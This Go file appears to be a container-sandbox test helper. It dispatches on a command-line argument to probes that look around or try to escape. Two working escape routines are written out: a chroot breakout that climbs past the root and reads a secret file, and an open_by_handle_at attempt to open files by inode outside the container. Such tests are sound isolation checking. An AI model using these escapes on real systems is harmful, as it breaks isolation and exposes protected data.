// SPDX-License-Identifier: Apache-2.0

// Command inside runs in a container. Its argument says what it does there: it looks around, or tries to get out.
package main

import (
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

func main() {
	switch os.Args[1] {
	case "climb":
		climb()
	case "handle":
		handle()
	case "view":
		onThread(view)
	case "calls":
		onThread(calls)
	case "try":
		onThread(try)
	case "overwrite":
		overwrite(os.Args[2], os.Args[3], os.Args[4])
	case "spy":
		onThread(func() { spy(os.Args[2]) })
	case "protected":
		onThread(protected)
	case "undo":
		undo()
	case "ttl":
		ttl()
	case "user":
		fmt.Println(os.Geteuid())
	case "connect":
		connect(os.Args[2])
	case "swap":
		swap(os.Args[2], os.Args[3], os.Args[4])
	}
}

// climb is the escape that works in a plain chroot: it changes the root to a folder below, stays above it,
// and climbs to the top.
func climb() {
	fmt.Println("folder:", os.Mkdir("/tmp/jail", 0o755))
	fmt.Println("chroot:", unix.Chroot("/tmp/jail"))
	for range 64 {
		os.Chdir("..")
	}
	fmt.Println("chroot to the top:", unix.Chroot("."))
	secret, err := os.ReadFile("secret")
	fmt.Println(string(secret), err)
	inside, err := os.ReadFile("/inside")
	fmt.Println("at the top:", string(inside), err)
}

// handle opens a file by its inode, on the whole file system that the root lies on (open_by_handle_at(2)).
func handle() {
	h, _, err := unix.NameToHandleAt(unix.AT_FDCWD, "/inside", 0)
	fmt.Println("handle:", err)
	root, err := unix.Open("/", unix.O_RDONLY, 0)
	fmt.Println("root:", err)
	_, err = unix.OpenByHandleAt(root, h, unix.O_RDONLY)
	fmt.Println("open by handle:", err)
}
